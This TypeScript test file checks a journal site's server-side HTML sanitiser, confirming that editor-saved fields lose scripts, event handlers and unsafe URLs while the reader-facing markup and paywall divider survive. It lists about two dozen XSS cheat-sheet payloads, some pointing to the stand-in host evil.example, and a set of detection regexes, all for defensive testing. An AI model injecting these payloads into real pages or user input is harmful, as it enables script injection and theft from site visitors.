// Every HTML field an editor saves is sanitised on the server (sanitize-html): what the reader pages
// render stays, scripts, handlers, styles, frames and javascript:/data: URLs go, on create, save,
// conflict and restore; the commentary's free-part divider survives, so the paywall still cuts.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { eq } from 'drizzle-orm';
import { articleRevisions, articles } from '../src/db/schema/index.js';
import { freeCommentary } from '../src/modules/content/service.js';
import { HTML_FIELDS, sanitizeEditorialHtml } from '../src/modules/editorial/sanitize.js';
import { dataOf, editorCall, journalDraft, staffTokens } from './editorial-helpers.js';
import { testMember } from './fixtures.js';
import { createTestApp, type TestContext } from './helpers.js';

let ctx: TestContext;
let tokens: Awaited<ReturnType<typeof staffTokens>>;
before(async () => {
  ctx = await createTestApp();
  tokens = await staffTokens(ctx);
});
after(() => ctx?.close());
const call = (path: string, body: unknown, token = tokens.editor) => editorCall(ctx, path, body, token);

/** Payloads from the XSS cheat sheets: each must come out harmless. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">b</a>',
  '<a href=" jav&#x09;ascript:alert(1)">c</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">d</a>',
  '<a href="vbscript:msgbox(1)">e</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">f</a>',
  '<a href="//evil.example/">g</a>',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)">h</p>',
  '<div onmouseover="alert(1)">i</div>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">j</button></form>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<video src="javascript:alert(1)" onplay="alert(1)" controls></video>',
  '<a href="https://ok.example/" target="_top" id="__proto__">k</a>',
  '<p id="body">clobber</p><form name="getElementById"></form><a name="cookie">n</a><img name="currentScript" src="/a.png">',
];

/** Nothing executable, styled or framed is left in sanitised HTML. */
function assertHarmless(html: string, label: string) {
  for (const pattern of [
    /<script/i,
    /<style/i,
    /<iframe/i,
    /<object/i,
    /<embed/i,
    /<form/i,
    /<svg/i,
    /<math/i,
    /<meta/i,
    /<link/i,
    /<base/i,
    /\son[a-z]+\s*=/i,
    /style\s*=/i,
    /javascript:/i,
    /vbscript:/i,
    /(src|href)\s*=\s*"\s*data:/i,
    /href="\/\//,
    /srcdoc/i,
    /formaction/i,
    /id="(?!qy-)/,
    /target="_top"/,
    /\sname=/,
  ]) {
    assert.doesNotMatch(html, pattern, `${label}: ${html}`);
  }
}

describe('the sanitiser', () => {
  it('makes every hostile payload harmless', () => {
    for (const dirty of HOSTILE) assertHarmless(sanitizeEditorialHtml(dirty), dirty);
    assertHarmless(sanitizeEditorialHtml(HOSTILE.join('<p>between</p>')), 'all at once');
  });

  it('keeps what the reader pages render, exactly', () => {
    const kept = [
      '<h2>方法</h2><h3>研究设计</h3><p>这是<strong>重点</strong>和<em>强调</em>，H<sub>2</sub>O 与 10<sup>3</sup>。</p>',
      '<ol start="2"><li>第一</li><li>第二</li></ol><ul><li>甲</li></ul>',
      '<table><caption>表1</caption><thead><tr><th scope="col">组</th><th colspan="2">例数</th></tr></thead><tbody><tr><td rowspan="2">A</td><td>1</td><td>2</td></tr></tbody></table>',
      '<figure id="qy-fig-1"><img src="/api/static/figures/f1.svg" alt="图1" loading="lazy" /><figcaption>图1 研究流程</figcaption></figure>',
      '<figure><img src="https://cdn.example.org/f2.png" alt="" width="600" height="400" /></figure>',
      '<p><a href="/article-info?permalinks=QYJ0001">站内</a> <a href="https://www.nejm.org/" target="_blank" rel="noopener noreferrer">原文</a> <a href="#qy-ref-1">1</a> <a href="mailto:editor@example.org">来信</a></p>',
      '<blockquote><p>引文</p></blockquote><p class="qy-demo-note">演示</p>',
      '<p>免费部分</p><hr /><p>会员部分</p>',
    ];
    for (const html of kept) assert.equal(sanitizeEditorialHtml(html), html);
  });

  it('normalises what it keeps: an <h1> is a section heading, ids get their prefix, a new tab cannot reach back', () => {
    assert.equal(sanitizeEditorialHtml('<h1 id="intro">引言</h1>'), '<h2 id="qy-intro">引言</h2>');
    assert.equal(
      sanitizeEditorialHtml('<a href="https://x.example/" target="_blank">x</a>'),
      '<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
    assert.equal(sanitizeEditorialHtml('<p class="qy-demo-note evil">x</p>'), '<p class="qy-demo-note">x</p>');
    // Text stays text.
    assert.equal(sanitizeEditorialHtml('P<0.05 & n>30'), 'P&lt;0.05 &amp; n&gt;30');
  });

  it('keeps the free-part divider in every spelling, so the paywall still cuts there', () => {
    for (const hr of ['<hr>', '<hr/>', '<hr />', '<HR>', '<hr class="x" onclick="alert(1)">']) {
      const clean = sanitizeEditorialHtml(`<p>免费</p>${hr}<p>付费</p>`);
      assert.equal(freeCommentary(clean), '<p>免费</p>', hr);
    }
  });

  it('is idempotent: its own output comes back unchanged', () => {
    for (const dirty of [...HOSTILE, '<p>x<hr/>y</p>', '<ul><li>a<li>b</ul>', '<table><tr><td>c']) {
      const once = sanitizeEditorialHtml(dirty);
      assert.equal(sanitizeEditorialHtml(once), once, dirty);
    }
  });
});

describe('what an editor saves', () => {
  const hostileBody = `<p>正文保留</p>${HOSTILE.join('')}`;
  const hostileFields = Object.fromEntries(HTML_FIELDS.map((f) => [f, `<p>${f}</p><script>alert("${f}")</script><img src=x onerror=alert(1)>`]));

  it('is sanitised in every HTML field on create; plain-text fields are kept as typed', async () => {
    const draft = dataOf(
      await call('/article/create', {
        document: journalDraft('S1', { ...hostileFields, content: hostileBody, title: '标题 <b>不是HTML</b> P<0.05', keyword: 'a<b', intro: '摘要 <i>原样</i>' }),
      }),
    );
    for (const field of HTML_FIELDS) {
      const value: string = draft.document[field];
      assertHarmless(value, field);
      assert.ok(value.includes(field === 'content' ? '<p>正文保留</p>' : `<p>${field}</p>`), `${field}: ${value}`);
    }
    assert.equal(draft.document.title, '标题 <b>不是HTML</b> P<0.05');
    assert.equal(draft.document.keyword, 'a<b');
    assert.equal(draft.document.intro, '摘要 <i>原样</i>');
    // What is stored is what was answered.
    const [row] = await ctx.app.db.select({ content: articles.content, wantsay: articles.wantsay }).from(articles).where(eq(articles.id, draft.id));
    assert.equal(row!.content, draft.document.content);
    const [revision] = await ctx.app.db.select({ document: articleRevisions.document }).from(articleRevisions).where(eq(articleRevisions.articleId, draft.id));
    assertHarmless(JSON.stringify(revision!.document).replace(/\\"/g, '"'), 'revision 1');
  });

  it('is sanitised on save; saving the same text again changes nothing and makes no revision', async () => {
    const draft = dataOf(await call('/article/create', { document: journalDraft('S2') }));
    const saved = dataOf(await call('/article/save', { id: draft.id, baseRevision: 1, document: { content: hostileBody, enBody: hostileBody } }));
    assert.equal(saved.revision, 2);
    assertHarmless(saved.document.content, 'content');
    assertHarmless(saved.document.enBody, 'enBody');
    const again = dataOf(await call('/article/save', { id: draft.id, baseRevision: 2, document: { content: hostileBody, enBody: saved.document.enBody } }));
    assert.equal(again.revision, 2, 'the same text, sanitised, is no change');
  });

  it('a conflicting save is kept sanitised; restoring a stored document from an older build sanitises it', async () => {
    const draft = dataOf(await call('/article/create', { document: journalDraft('S3') }));
    dataOf(await call('/article/save', { id: draft.id, baseRevision: 1, document: { title: '先保存的' } }));
    const lost = await call('/article/save', { id: draft.id, baseRevision: 1, document: { content: hostileBody } }, tokens.admin);
    assert.equal(lost.code, 10409);
    const [kept] = await ctx.app.db.select().from(articleRevisions).where(eq(articleRevisions.id, (lost.data as { revisionId: number }).revisionId));
    assertHarmless(String(kept!.document.content), 'kept conflict');

    // A revision written before sanitising existed (raw HTML in its document).
    const [old] = await ctx.app.db
      .insert(articleRevisions)
      .values({
        articleId: draft.id,
        revision: null,
        baseRevision: 1,
        applied: false,
        kind: 'conflict',
        memberName: 'demo_editor',
        document: { ...journalDraft('S3'), content: hostileBody, wantsay: '<p>免费</p><hr onclick="x()"><p>付费</p><script>x()</script>' },
        createdAt: ctx.clock.now(),
      })
      .returning({ id: articleRevisions.id });
    const restored = dataOf(await call('/article/restore', { id: draft.id, revisionId: old!.id, baseRevision: 2 }));
    assertHarmless(restored.document.content, 'restored content');
    assert.equal(restored.document.wantsay, '<p>免费</p><hr /><p>付费</p>');
  });

  it('published, readers get the sanitised text, and a non-member only the commentary before the divider', async () => {
    const draft = dataOf(
      await call('/article/create', {
        document: journalDraft('S4', { content: hostileBody, wantsay: '<p onclick="x()">免费述评</p><HR style="x"><p>会员述评</p><script>steal()</script>' }),
      }),
    );
    dataOf(await call('/article/publish', { id: draft.id, revision: 1 }));
    const visitor = (await ctx.post('/api/article/getArticleDetail', { permalinks: 'QYES4' })).body.data;
    assert.equal(visitor.wantsay, '<p>免费述评</p>');
    assert.equal(visitor.wantsayTruncated, true);
    assert.equal(visitor.content, '');
    const member = await testMember(ctx, 'sanitize_member', { member: true });
    const full = (await ctx.post('/api/article/getArticleDetail', { permalinks: 'QYES4' }, member.token)).body.data;
    assert.equal(full.wantsay, '<p>免费述评</p><hr /><p>会员述评</p>');
    assertHarmless(full.content, 'reader content');
    assert.ok(full.content.startsWith('<p>正文保留</p>'));
  });
});
